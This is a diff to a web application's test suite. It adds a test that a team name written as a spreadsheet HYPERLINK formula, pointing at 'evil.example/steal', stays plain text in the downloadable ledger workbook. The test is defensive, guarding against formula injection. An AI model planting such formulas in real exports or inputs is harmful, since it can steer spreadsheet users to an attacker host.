@@ -289,3 +289,28 @@ def test_a_forged_forwarded_for_does_not_write_the_audit_address(city, settings)
     client.get(url, REMOTE_ADDR="10.0.0.5", HTTP_X_FORWARDED_FOR="1.2.3.4, 203.0.113.50")
     assert AuditEvent.objects.latest("at").client_address == "203.0.113.50"  # what our one proxy appended
     assert re.fullmatch(r"[\d.]+", AuditEvent.objects.latest("at").client_address)
+
+
+# --- Workbooks hold text, never code ------------------------------------------------------------------
+
+
+def test_a_name_written_as_a_formula_stays_text_in_the_regulators_workbook(city):
+    """A contractor registers a team named like a formula; the district downloads the project's ledger:
+    the cell is text, and the sheet holds no formula at all."""
+    import io
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://evil.example/steal","点击查看")'
+    answer = register(city.client("contractor"), city.project, city.subcontractor, team=formula)
+    assert answer.status_code == 201
+    download = city.client("contractor").get(f"/reports/ledger.xlsx?project={city.project.permit_no}"
+                                             "&from=2026-11&to=2026-11")  # fmt: skip
+    assert download.status_code == 200
+    sheet = load_workbook(io.BytesIO(download.content))["人员台账"]
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == formula]
+    assert cells and all(c.data_type == "s" for c in cells)
+    with zipfile.ZipFile(io.BytesIO(download.content)) as archive:
+        xml = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
+    assert b"<f>" not in xml and b"<f " not in xml
